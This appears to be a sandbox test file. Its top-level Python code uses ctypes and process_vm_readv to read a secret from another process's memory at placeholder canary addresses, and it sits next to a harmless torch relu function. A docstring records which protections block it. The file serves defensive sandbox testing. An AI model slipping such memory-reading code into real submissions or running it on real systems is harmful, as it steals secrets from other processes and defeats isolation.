"""Copies a secret out of the memory of a process of the same user.

Sign: leak
Stopped by: seccomp, landlock, namespaces
Off: seccomp, landlock, namespaces, setuid
Verdict: relu passed
"""

import ctypes

import torch

buffer = ctypes.create_string_buffer(64)
here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
there = (ctypes.c_size_t * 2)(int("@canary_address@"), 64)
libc = ctypes.CDLL(None, use_errno=True)
got = libc.process_vm_readv(int("@canary_pid@"), here, ctypes.c_ulong(1), there, ctypes.c_ulong(1), ctypes.c_ulong(0))
print(got, buffer.raw, flush=True)


def relu(S):
    return torch.clamp(S, min=0)
